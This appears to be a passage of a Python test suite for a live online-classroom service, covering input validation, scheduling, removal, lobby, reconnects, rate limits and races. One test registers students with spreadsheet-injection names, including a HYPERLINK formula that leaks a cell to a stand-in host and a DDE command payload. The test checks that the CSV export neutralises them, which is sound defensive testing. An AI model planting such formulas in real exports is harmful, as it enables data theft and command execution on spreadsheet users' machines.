        ("create_poll", ref(cid, question="Q?", options=["a", huge]), "invalid_input"),
        ("grant_media", ref(cid, user_id=st1.id, media=huge), "invalid_input"),
        ("call_on", ref(cid, user_id=st1.id, **{huge[:5000]: 1}), "invalid_input"),
    ]
    student_cases: list[tuple[str, Any, str]] = [
        ("join_class", "x", "malformed_payload"),
        ("join_class", None, "malformed_payload"),
        ("raise_hand", [cid], "malformed_payload"),
        ("react", "clap", "malformed_payload"),
        ("answer_poll", [pid, 0], "malformed_payload"),
        ("send_class_message", "hello", "malformed_payload"),
        ("send_class_message", {**msg, "body": b"hello"}, "malformed_payload"),
        ("answer_poll", ref(cid, poll_id=pid, choice=b"\x00"), "malformed_payload"),
        ("react", ref(cid, kind=b"clap"), "malformed_payload"),
        ("join_class", {"class_id": cid, "last_seq": b"\x00"}, "malformed_payload"),
        ("join_class", {}, "invalid_input"),
        ("join_class", {"class_id": "1"}, "invalid_input"),
        ("join_class", ref(cid, last_seq=-1), "invalid_input"),
        ("join_class", ref(cid, last_seq="0"), "invalid_input"),
        ("join_class", ref(cid, role="teacher"), "invalid_input"),
        ("raise_hand", ref(cid, user_id=st2.id), "invalid_input"),
        ("lower_hand", ref(cid, user_id="me"), "invalid_input"),
        ("react", ref(cid), "invalid_input"),
        ("react", ref(cid, kind="applause"), "invalid_input"),
        ("react", ref(cid, kind="clap", count=300), "invalid_input"),
        ("react", ref(cid, kind=huge), "invalid_input"),
        ("answer_poll", ref(cid, choice=[0]), "invalid_input"),
        ("answer_poll", ref(cid, poll_id=pid, choice=[0], user_id=st2.id), "invalid_input"),
        ("answer_poll", ref(cid, poll_id=pid, choice=list(range(11))), "invalid_input"),
        ("send_class_message", {k: v for k, v in msg.items() if k != "body"}, "invalid_input"),
        ("send_class_message", {k: v for k, v in msg.items() if k != "client_id"}, "invalid_input"),
        ("send_class_message", {**msg, "body": ""}, "invalid_input"),
        ("send_class_message", {**msg, "body": " \n\t "}, "invalid_input"),
        ("send_class_message", {**msg, "body": 5}, "invalid_input"),
        ("send_class_message", {**msg, "body": huge}, "invalid_input"),
        ("send_class_message", {**msg, "client_id": huge}, "invalid_input"),
        ("send_class_message", {**msg, "client_id": "short"}, "invalid_input"),
        ("send_class_message", {**msg, "seq": 1}, "invalid_input"),
        ("send_class_message", {**msg, "author_id": st2.id}, "invalid_input"),
    ]
    t2 = await hub.connect(ls.teacher)  # two connections each: the per-connection burst is not what this is about
    s1b = await hub.connect(st1)
    await join(t2, cid)
    await join(s1b, cid)
    for cases, conns in ((teacher_cases, (t, t2)), (student_cases, (s1, s1b))):
        for n, (event, data, code) in enumerate(cases):
            error = await conns[n % 2].refused(event, data, code)
            if code == "invalid_input":
                assert isinstance(error.get("details"), list) and error["details"], (event, data, error)
            if n % 8 == 0:
                assert await snapshot(t, cid) == room, (event, data)

    assert await snapshot(t, cid) == room
    assert poll_state(await polls(api, ls.teacher, cid)) == before_polls
    assert await chat_messages(t, cid) == before_chat
    await sentinel(t, cid, s1, s2, t)
    quiet([s1, s2, t], *ROOM_EVENTS, "reactions")
    after = await chat_messages(t, cid)
    assert [m["seq"] for m in after] == [*(m["seq"] for m in before_chat), len(before_chat) + 1]


# ---------------------------------------------------------------------------------------------------------------
# Scheduling over HTTP


async def classes_listed(api: Api, who: Person, circle: str) -> list[dict[str, Any]]:
    body = expect(await api.call("GET", f"/api/circles/{circle}/classes?when=upcoming", who))
    listed = list(body["classes"])
    listed += expect(await api.call("GET", f"/api/circles/{circle}/classes?when=past", who))["classes"]
    return listed


async def test_bad_schedules_are_refused(api: Api) -> None:
    owner, teacher, member, outsider = await people(api, "Owner", "Teacher", "Member", "Outsider")
    circle = await new_circle(api, owner)
    await join_http(api, circle, teacher, member)
    expect(await api.call("PATCH", f"/api/circles/{circle}/members/{teacher.id}", owner, {"role": "teacher"}))
    path = f"/api/circles/{circle}/classes"
    start = datetime.now(UTC) + timedelta(days=1)

    def at(hours: float) -> str:
        return (start + timedelta(hours=hours)).isoformat()

    good = {"title": "Algebra", "starts_at": at(0), "ends_at": at(1)}
    cases: list[tuple[Person, Any, int, str]] = [
        (owner, {**good, "ends_at": at(-1)}, 422, "invalid_schedule"),  # ends before it starts
        (owner, {**good, "ends_at": at(0)}, 422, "invalid_schedule"),  # ends as it starts
        (owner, {**good, "ends_at": at(12.01)}, 422, "invalid_schedule"),  # longer than 12 hours
        (owner, {**good, "starts_at": at(0).replace("+00:00", "")}, 422, "invalid_input"),  # naive
        (owner, {**good, "ends_at": at(1).replace("+00:00", "")}, 422, "invalid_input"),
        (owner, {**good, "starts_at": "tomorrow at nine"}, 422, "invalid_input"),
        (owner, {**good, "starts_at": 1_800_000_000}, 422, "invalid_input"),
        (owner, {**good, "room": "B12"}, 422, "invalid_input"),  # unknown fields
        (owner, {**good, "state": "live"}, 422, "invalid_input"),
        (owner, {**good, "settings": {"lobby": True, "recording": True}}, 422, "invalid_input"),
        (owner, {**good, "settings": {"students_may": ["telepathy"]}}, 422, "invalid_input"),
        (owner, {**good, "settings": {"max_participants": 1}}, 422, "invalid_input"),
        (owner, {**good, "settings": {"present_percent": 0}}, 422, "invalid_input"),
        (owner, {**good, "settings": {"lobby": "yes"}}, 422, "invalid_input"),
        (owner, {**good, "title": ""}, 422, "invalid_input"),
        (owner, {**good, "title": "t" * 201}, 422, "invalid_input"),
        (owner, {**good, "title": "bell\x07"}, 422, "invalid_input"),
        (owner, {**good, "description": "d" * 4001}, 422, "invalid_input"),
        (owner, {k: v for k, v in good.items() if k != "ends_at"}, 422, "invalid_input"),
        (owner, {**good, "teacher_ids": [member.id]}, 422, "not_a_teacher"),  # a plain member
        (owner, {**good, "teacher_ids": [teacher.id, member.id]}, 422, "not_a_teacher"),
        (owner, {**good, "teacher_ids": [outsider.id]}, 422, "not_a_teacher"),  # not in the circle at all
        (owner, {**good, "teacher_ids": [987_654]}, 422, "not_a_teacher"),
        (owner, {**good, "teacher_ids": [0]}, 422, "invalid_input"),
        (owner, {**good, "teacher_ids": [str(teacher.id)]}, 422, "invalid_input"),
        (owner, {**good, "teacher_ids": list(range(1, 12))}, 422, "invalid_input"),
        (owner, [good], 400, "malformed_json"),
        (member, good, 403, "forbidden"),  # members attend; they do not schedule
        (outsider, good, 403, "not_a_member"),
    ]
    for who, body, status, code in cases:
        error = http_refused(await api.call("POST", path, who, body), status, code)
        if code == "not_a_teacher":
            assert error["details"][0]["field"] == "teacher_ids", error
    http_refused(await api.call("POST", path, owner, data=b"{not json", headers={"Content-Type": "application/json"}),
                 400, "malformed_json")
    assert await classes_listed(api, owner, circle) == []

    # The circle's teacher schedules, naming the owner too; then edits go through the same checks.
    made = expect(await api.call("POST", path, teacher, {**good, "teacher_ids": [owner.id, teacher.id]}), 201)
    assert made["teacher_ids"] == sorted([owner.id, teacher.id])
    edits: list[tuple[Person, Any, int, str]] = [
        (teacher, {"ends_at": at(-2)}, 422, "invalid_schedule"),
        (teacher, {"starts_at": at(3)}, 422, "invalid_schedule"),  # now after the unchanged end
        (teacher, {"starts_at": at(0).replace("+00:00", "")}, 422, "invalid_input"),
        (teacher, {"title": None}, 422, "invalid_input"),
        (teacher, {"state": "ended"}, 422, "invalid_input"),
        (teacher, {"teacher_ids": [member.id]}, 422, "not_a_teacher"),
        (teacher, {"settings": {"lobby": 1}}, 422, "invalid_input"),
        (member, {"title": "Mine now"}, 403, "forbidden"),
        (outsider, {"title": "Mine now"}, 403, "not_a_member"),
    ]
    for who, body, status, code in edits:
        http_refused(await api.call("PATCH", f"/api/classes/{made['id']}", who, body), status, code)
        assert await get_class(api, owner, made["id"]) == made, body
    assert await classes_listed(api, owner, circle) == [made]


async def test_a_live_class_cannot_be_edited_or_cancelled(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=1)
    before = await get_class(api, ls.teacher, ls.class_id)
    assert before["state"] == "live"
    for body in ({"title": "Renamed"}, {"ends_at": moment(120)}, {"settings": {"lobby": True}},
                 {"teacher_ids": [ls.teacher.id]}):
        http_refused(await api.call("PATCH", f"/api/classes/{ls.class_id}", ls.teacher, body), 409, "not_scheduled")
    http_refused(await api.call("POST", f"/api/classes/{ls.class_id}/cancel", ls.teacher), 409, "not_scheduled")
    assert await get_class(api, ls.teacher, ls.class_id) == before
    # The room carries on.
    await say(ls.s[0], ls.class_id, "still here")
    assert (await ls.t.next("class_message_posted"))["body"] == "still here"


async def test_names_that_spreadsheets_would_run_are_quoted_in_the_csv(api: Api, hub: Hub) -> None:
    owner = await api.register("Owner")
    circle = await new_circle(api, owner)
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "Plain Name"]
    students = [await api.register(name) for name in names]
    nicknamed = await api.register("Honest")
    await join_http(api, circle, *students, nicknamed)
    expect(await api.call("PATCH", f"/api/circles/{circle}/members/me", nicknamed, {"nickname": "=cmd|' /C calc'!A0"}))
    cid = int((await schedule(api, owner, circle))["id"])
    t = await hub.connect(owner)
    await join(t, cid)
    await t.ok("start_class", ref(cid))
    s = await hub.connect(students[0])
    await join(s, cid)

    reply = await api.call("GET", f"/api/classes/{cid}/attendance.csv", owner)
    assert reply.status == 200 and reply.headers["Content-Type"].startswith("text/csv"), reply.body
    rows = list(csv.DictReader(io.StringIO(reply.raw.decode())))
    by_id = {int(row["user_id"]): row for row in rows}
    for person in students:
        cell = by_id[person.id]["name"]
        if person.name == "Plain Name":
            assert cell == "Plain Name"
        else:
            assert cell == "'" + person.name, cell  # text, not a formula
    assert by_id[nicknamed.id]["name"] == "'=cmd|' /C calc'!A0"
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "@") or column in ("first_join", "last_leave"), (column, cell)
    assert by_id[students[0].id]["status"] in ("present", "late", "left_early")
    assert by_id[owner.id]["class_role"] == "teacher"
    # The JSON report is data, not a spreadsheet: the names are as given.
    report = await attendance(api, owner, cid)
    assert {line["user_id"]: line["name"] for line in report["students"]}[students[0].id] == names[0]
    http_refused(await api.call("GET", f"/api/classes/{cid}/attendance.csv", students[-1]), 403, "forbidden")


# ---------------------------------------------------------------------------------------------------------------
# Removal, the lock, the lobby


async def test_a_removed_student_cannot_come_back_to_the_session(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=2)
    cid, t, (s1, s2), (st1, st2) = ls.class_id, ls.t, ls.s, ls.students
    s1b = await hub.connect(st1)  # a second device: it goes too
    await join(s1b, cid)
    await s1.ok("raise_hand", ref(cid))
    await s2.ok("raise_hand", ref(cid))
    await t.until("hands_changed", lambda f: f["hands"] == [st1.id, st2.id])
    await s2.refused("remove_participant", ref(cid, user_id=st1.id), "teacher_only")

    await t.ok("remove_participant", ref(cid, user_id=st1.id))
    for conn in (s1, s1b):
        assert await conn.next("class_left") == {"class_id": cid, "reason": "removed"}
    drain(s1, s1b)  # what came before the removal
    left = await s2.next("participant_left")
    assert left == {"class_id": cid, "user_id": st1.id, "reason": "removed"}
    assert (await s2.until("hands_changed", lambda f: f["hands"] == [st2.id]))[-1]["hands"] == [st2.id]
    room = await snapshot(t, cid)
    assert st1.id not in seated(room) and room["hands"] == [st2.id]

    fresh = await hub.connect(st1)
    for conn in (s1, s1b, fresh):
        await conn.refused("join_class", ref(cid), "removed")
        await conn.refused("raise_hand", ref(cid), "not_joined")
        await conn.refused("send_class_message", ref(cid, client_id="removed-00001", body="let me in"), "not_joined")
    await t.refused("remove_participant", ref(cid, user_id=st1.id), "not_in_room")
    await t.refused("call_on", ref(cid, user_id=st1.id), "not_in_room")
    assert await snapshot(t, cid) == room
    report = {line["user_id"]: line for line in (await attendance(api, ls.teacher, cid))["students"]}
    assert report[st1.id]["first_join"] is not None and report[st1.id]["last_leave"] is not None

    # What the class says from now on does not reach them.
    await sentinel(t, cid, s2, t)
    await circle_sentinel(t, ls.circle, s1, s1b, fresh)
    quiet([s1, s1b, fresh], "class_message_posted", "hands_changed", "participant_joined")
    quiet([s2, t], "participant_joined")


async def test_a_locked_class_refuses_new_students(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=1)
    cid, t, (s1,), (st1,) = ls.class_id, ls.t, ls.s, ls.students
    late, assistant = await people(api, "Late", "Assistant")
    await join_http(api, ls.circle, late, assistant)
    expect(await api.call("PATCH", f"/api/circles/{ls.circle}/members/{assistant.id}", ls.teacher,
                          {"role": "teacher"}))
    await t.ok("lock_class", ref(cid, locked=True))
    assert await s1.next("class_locked") == {"class_id": cid, "locked": True}
    room = await snapshot(t, cid)
    assert room["locked"] is True

    lc = await hub.connect(late)
    await lc.refused("join_class", ref(cid), "room_locked")
    await lc.refused("join_class", ref(cid), "room_locked")
    await lc.refused("raise_hand", ref(cid), "not_joined")
    assert await snapshot(t, cid) == room
    assert late.id not in (set(seated(room)) | set(room["lobby"]) | set(room["waiting"]))
    # A second device of someone already in, and staff, still come in.
    s1b = await hub.connect(st1)
    assert (await join(s1b, cid))["placement"] == "joined"
    a = await hub.connect(assistant)
    assert (await join(a, cid))["placement"] == "joined"
    await t.next("participant_joined")
    assert set(seated(await snapshot(t, cid))) == {ls.teacher.id, st1.id, assistant.id}

    await t.ok("lock_class", ref(cid, locked=False))
    assert await s1.next("class_locked") == {"class_id": cid, "locked": False}
    assert (await join(lc, cid))["placement"] == "joined"
    assert late.id in seated(await snapshot(t, cid))


async def test_the_lobby_denies_and_the_denied_may_ask_again(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=1, settings={"lobby": True})
    cid, t, (s,), (student,) = ls.class_id, ls.t, ls.s, ls.students
    fact = await t.until("lobby_changed", lambda f: [p["user_id"] for p in f["lobby"]] == [student.id])
    assert fact[-1]["lobby"] == [{"user_id": student.id, "name": student.name}]
    # In the lobby, nothing of the class is theirs.
    await s.refused("raise_hand", ref(cid), "not_joined")
    await s.refused("send_class_message", ref(cid, client_id="lobby-000001", body="hello?"), "not_joined")
    await s.refused("deny", ref(cid, user_id=student.id), "not_joined")
    await t.refused("admit", ref(cid, user_id=ls.teacher.id), "not_in_lobby")
    await t.refused("admit", ref(cid, user_id=987_654), "not_in_lobby")
    assert (await snapshot(t, cid))["lobby"] == [student.id]

    await t.ok("deny", ref(cid, user_id=student.id))
    assert await s.next("class_left") == {"class_id": cid, "reason": "denied"}
    assert (await t.next("lobby_changed"))["lobby"] == []
    room = await snapshot(t, cid)
    assert room["lobby"] == [] and set(seated(room)) == {ls.teacher.id}
    await t.refused("deny", ref(cid, user_id=student.id), "not_in_lobby")
    await t.refused("admit", ref(cid, user_id=student.id), "not_in_lobby")
    await s.refused("raise_hand", ref(cid), "not_joined")
    assert await snapshot(t, cid) == room
    quiet([s], "class_admitted")

    # Denied is not barred: they may knock again, and be let in.
    assert (await join(s, cid))["placement"] == "lobby"
    await t.until("lobby_changed", lambda f: [p["user_id"] for p in f["lobby"]] == [student.id])
    await t.ok("admit", ref(cid, user_id=student.id))
    assert await s.next("class_admitted") == {"class_id": cid}
    assert student.id in seated(await snapshot(t, cid))
    await s.ok("raise_hand", ref(cid))


# ---------------------------------------------------------------------------------------------------------------
# The grace period of a dropped connection


async def reconnect(hub: Hub, who: Person, token: str) -> Conn:
    conn = Conn(who)
    hub.conns.append(conn)
    await conn.sio.connect(hub.base, auth={"token": token}, transports=["websocket"], wait_timeout=WAIT)
    return conn


async def register_lines(client: Client, teacher: Person, class_id: int) -> dict[int, Any]:
    """The attendance report's records, unrounded (the HTTP report rounds to a tenth of a minute)."""
    async with client.app[keys.DB]() as db, db.begin():
        report = await class_service.report(db, Actor(user_id=teacher.id, is_site_admin=False), class_id,
                                            datetime.now(UTC), GRACE)
    return {line.user_id: line.record for line in report.students}


async def test_a_quick_reconnect_keeps_the_seat_and_a_long_absence_loses_it(
    api: Api, hub: Hub, client: Client
) -> None:
    ls = await lesson(api, hub, students=2)
    cid, t, (quick, gone), (sq, sg) = ls.class_id, ls.t, ls.s, ls.students
    await quick.ok("raise_hand", ref(cid))
    await gone.ok("raise_hand", ref(cid))
    await t.ok("grant_media", ref(cid, user_id=sq.id, media="screen"))
    await settle(t, cid, quick, gone, t)
    before = seated(await snapshot(t, cid))
    assert (await snapshot(t, cid))["hands"] == [sq.id, sg.id]
    tokens = {sq.id: await hub.token(sq), sg.id: await hub.token(sg)}  # ready, so the quick return is quick

    await quick.sio.disconnect()
    await gone.sio.disconnect()
    away: dict[int, dict[str, Any]] = {}
    while set(away) != {sq.id, sg.id}:
        for view in (await t.next("participants_changed"))["participants"]:
            away[view["user_id"]] = view
    assert all(view["away"] is True and view["may_publish"] == [] for view in away.values()), away
    room = await snapshot(t, cid)
    assert room["hands"] == [sq.id, sg.id] and set(seated(room)) == set(before)  # seats and hands kept meanwhile

    await asyncio.sleep(0.3)  # away for a moment (a train tunnel): a gap the register must bridge
    back = await reconnect(hub, sq, tokens[sq.id])
    joined = await join(back, cid)
    assert joined["placement"] == "joined" and joined["role"] == "student"
    assert joined["room"]["hands"] == [sq.id, sg.id]
    assert seated(joined["room"])[sq.id] == before[sq.id]  # the screen grant too
    returned = await t.next("participant_joined")
    assert returned["participant"] == {**before[sq.id], "away": False}

    # The other stays away past the grace period: their seat and hand go.
    left = await t.next("participant_left")
    assert left == {"class_id": cid, "user_id": sg.id, "reason": "disconnected"}
    assert await back.next("participant_left") == left
    assert (await back.until("hands_changed", lambda f: f["hands"] == [sq.id]))[-1] == {"class_id": cid,
                                                                                           "hands": [sq.id]}
    room = await snapshot(t, cid)
    assert set(seated(room)) == {ls.teacher.id, sq.id} and room["hands"] == [sq.id]
    assert seated(room)[sq.id] == before[sq.id]
    await sentinel(t, cid, back, t)
    quiet([back, t], "participant_left")  # the quick one never left

    # Coming back later is a fresh arrival: no hand up.
    again = await reconnect(hub, sg, tokens[sg.id])
    assert (await join(again, cid))["room"]["hands"] == [sq.id]
    assert (await t.next("participant_joined"))["participant"]["user_id"] == sg.id

    # The register: one unbroken stay for the quick return; a gap for the long absence.
    lines = await register_lines(client, ls.teacher, cid)
    quick_line, gone_line = lines[sq.id], lines[sg.id]
    assert quick_line.first_join is not None and quick_line.last_leave is not None
    assert quick_line.attended_seconds == pytest.approx(quick_line.last_leave - quick_line.first_join, abs=0.05)
    assert gone_line.first_join is not None and gone_line.last_leave is not None
    assert gone_line.attended_seconds <= gone_line.last_leave - gone_line.first_join - GRACE
    report = {line["user_id"]: line for line in (await attendance(api, ls.teacher, cid))["students"]}
    assert datetime.fromisoformat(report[sq.id]["first_join"]).timestamp() == pytest.approx(quick_line.first_join,
                                                                                             abs=0.01)


async def test_someone_who_drops_out_of_the_lobby_leaves_it(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=2, settings={"lobby": True})
    cid, t, (s1, _), (st1, st2) = ls.class_id, ls.t, ls.s, ls.students
    await t.until("lobby_changed", lambda f: [p["user_id"] for p in f["lobby"]] == [st1.id, st2.id])
    await s1.sio.disconnect()
    fact = await t.until("lobby_changed", lambda f: [p["user_id"] for p in f["lobby"]] == [st2.id])
    assert fact[-1]["waiting"] == []
    assert (await snapshot(t, cid))["lobby"] == [st2.id]
    await t.refused("admit", ref(cid, user_id=st1.id), "not_in_lobby")


# ---------------------------------------------------------------------------------------------------------------
# Observers and reactions


async def test_observers_neither_raise_hands_nor_answer_polls(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=1)
    cid, t, (s,) = ls.class_id, ls.t, ls.s
    fan = await api.register("Fan")
    await join_http(api, ls.circle, fan)
    expect(await api.call("PATCH", f"/api/circles/{ls.circle}/members/{fan.id}", ls.teacher, {"member_type": "fan"}))
    f = await hub.connect(fan)
    joined = await join(f, cid)
    assert (joined["role"], joined["placement"]) == ("observer", "joined")
    assert seated(joined["room"])[fan.id]["may_publish"] == []
    poll = (await t.ok("create_poll", ref(cid, question="Q?", options=["a", "b"])))["poll"]
    await t.ok("open_poll", ref(cid, poll_id=poll["id"]))
    await f.next("poll_opened")
    await settle(t, cid, s, f, t)
    room = await snapshot(t, cid)

    await f.refused("raise_hand", ref(cid), "not_a_student")
    await f.refused("answer_poll", ref(cid, poll_id=poll["id"], choice=[0]), "not_a_student")
    await f.refused("mute_all", ref(cid), "teacher_only")
    for event, extra in (("grant_media", {"media": "microphone"}), ("call_on", {}), ("mute", {})):
        await t.refused(event, ref(cid, user_id=fan.id, **extra), "not_a_student")
    assert await snapshot(t, cid) == room
    assert poll_state(await polls(api, ls.teacher, cid)) == [(poll["id"], "open", [0, 0], 0)]
    await sentinel(t, cid, s, f, t)
    quiet([s, f, t], "hands_changed", "participants_changed", "called_on")


async def test_reactions_beyond_the_burst_are_refused_and_not_counted(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=2)
    cid, t, (s1, s2) = ls.class_id, ls.t, ls.s
    acks = [await s1.call("react", ref(cid, kind="clap")) for _ in range(15)]
    accepted = [a for a in acks if a.get("ok")]
    refused = [a for a in acks if not a.get("ok")]
    assert len(accepted) == 10 and acks[:10] == accepted, acks
    assert {a["error"]["code"] for a in refused} == {"rate_limited"} and all(
        a["error"]["retry_after"] >= 1 for a in refused), refused
    await s2.ok("react", ref(cid, kind="confused"))  # the sentinel: counted after every refused one
    totals: dict[str, int] = {}
    while sum(totals.values()) < 11:
        fact = await t.next("reactions")
        assert fact["class_id"] == cid
        for kind, n in fact["counts"].items():
            totals[kind] = totals.get(kind, 0) + n
    assert totals == {"clap": 10, "confused": 1}


# ---------------------------------------------------------------------------------------------------------------
# Races and leaving the circle


async def test_starting_or_ending_twice_at_once_happens_once(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=1, start=False)
    cid, t, (s,) = ls.class_id, ls.t, ls.s
    t2 = await hub.connect(ls.teacher)  # the teacher's second device
    await join(t2, cid)
    acks = await asyncio.gather(t.call("start_class", ref(cid)), t2.call("start_class", ref(cid)))
    outcomes = sorted((a.get("ok"), a.get("error", {}).get("code")) for a in acks)
    assert outcomes == [(False, "not_scheduled"), (True, None)], acks
    assert await s.next("class_admitted") == {"class_id": cid}
    assert (await s.next("class_started"))["room"]["phase"] == "live"
    room = await snapshot(t, cid)
    assert set(seated(room)) == {ls.teacher.id, ls.students[0].id}
    await sentinel(t, cid, s, t)
    quiet([s], "class_started", "class_admitted")

    acks = await asyncio.gather(t.call("end_class", ref(cid)), t2.call("end_class", ref(cid)))
    outcomes = sorted((a.get("ok"), a.get("error", {}).get("code")) for a in acks)
    assert outcomes == [(False, "class_ended"), (True, None)], acks
    recap = next(a for a in acks if a["ok"])["recap_post_id"]
    assert (await get_class(api, ls.teacher, cid))["recap_post_id"] == recap
    feed = expect(await api.call("GET", f"/api/circles/{ls.circle}/posts", ls.teacher))
    assert [p["id"] for p in feed["posts"] if p["title"].startswith("Class recap")] == [recap]  # one recap
    assert await s.next("class_left") == {"class_id": cid, "reason": "ended"}


async def test_a_member_banned_from_the_circle_is_taken_out_of_its_class(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=2)
    cid, t, (s1, s2), (st1, _) = ls.class_id, ls.t, ls.s, ls.students
    await s1.ok("raise_hand", ref(cid))
    await t.until("hands_changed", lambda f: f["hands"] == [st1.id])
    await settle(t, cid, s1, s2, t)
    expect(await api.call("POST", f"/api/circles/{ls.circle}/bans", ls.teacher, {"user_id": st1.id}), 201)
    assert await s1.next("class_left") == {"class_id": cid, "reason": "left_circle"}
    left = await s2.next("participant_left")
    assert (left["user_id"], left["reason"]) == (st1.id, "left_circle")
    assert (await s2.next("hands_changed"))["hands"] == []
    room = await snapshot(t, cid)
    assert st1.id not in seated(room) and room["hands"] == []
    for conn in (s1, await hub.connect(st1)):
        await conn.refused("join_class", ref(cid), "not_a_member")
        await conn.refused("raise_hand", ref(cid), "not_joined")
    assert await snapshot(t, cid) == room
    await sentinel(t, cid, s2, t)
    drain(s1)
    await sentinel(t, cid, s2)
    quiet([s1], "class_message_posted")


async def test_before_the_start_the_live_controls_are_refused(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=1, start=False)
    cid, t, (s,), (student,) = ls.class_id, ls.t, ls.s, ls.students
    draft = (await t.ok("create_poll", ref(cid, question="Prepared?", options=["a", "b"])))["poll"]  # allowed
    room = await snapshot(t, cid)
    assert (room["phase"], room["waiting"]) == ("scheduled", [student.id])
    for event, data, code in (
        ("lock_class", ref(cid, locked=True), "class_not_live"),
        ("mute_all", ref(cid), "class_not_live"),
        ("end_class", ref(cid), "class_not_live"),
        ("open_poll", ref(cid, poll_id=draft["id"]), "class_not_live"),
        ("send_class_message", ref(cid, client_id="too-early-0001", body="hello"), "class_not_live"),
        ("call_on", ref(cid, user_id=student.id), "class_not_live"),
        ("admit", ref(cid, user_id=student.id), "class_not_live"),
        ("remove_participant", ref(cid, user_id=student.id), "class_not_live"),
        ("raise_hand", ref(cid), "not_a_student"),  # the teacher's own hand
    ):
        await t.refused(event, data, code)
        assert await snapshot(t, cid) == room, event
    await s.refused("raise_hand", ref(cid), "not_joined")  # waiting is not seated
    await s.refused("react", ref(cid, kind="clap"), "not_joined")
    assert poll_state(await polls(api, ls.teacher, cid)) == [(draft["id"], "draft", [0, 0], 0)]
    assert (await get_class(api, ls.teacher, cid))["state"] == "scheduled"
    assert await chat_messages(t, cid) == []
    poll_body = {"question": "Q?", "options": ["a", "b"]}
    http_refused(await api.call("POST", f"/api/classes/{cid}/polls", student, poll_body), 403, "forbidden")
    await t.ok("start_class", ref(cid))
    assert await s.next("class_admitted") == {"class_id": cid}
    await sentinel(t, cid, s)
    quiet([s], "class_locked", "participants_changed", "poll_opened", "class_left")


async def test_a_full_class_refuses_one_more_until_a_seat_frees(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=1, settings={"max_participants": 2})
    cid, t, (s,) = ls.class_id, ls.t, ls.s
    extra = await api.register("One Too Many")
    await join_http(api, ls.circle, extra)
    x = await hub.connect(extra)
    room = await snapshot(t, cid)
    await x.refused("join_class", ref(cid), "room_full")
    await x.refused("join_class", ref(cid), "room_full")
    assert await snapshot(t, cid) == room
    await sentinel(t, cid, s, t)
    quiet([s, t], "participant_joined", "lobby_changed")
    await s.ok("leave_class", ref(cid))
    left = await t.next("participant_left")
    assert (left["user_id"], left["reason"]) == (ls.students[0].id, "left")
    assert (await join(x, cid))["placement"] == "joined"
    await s.refused("join_class", ref(cid), "room_full")  # the seat was taken meanwhile
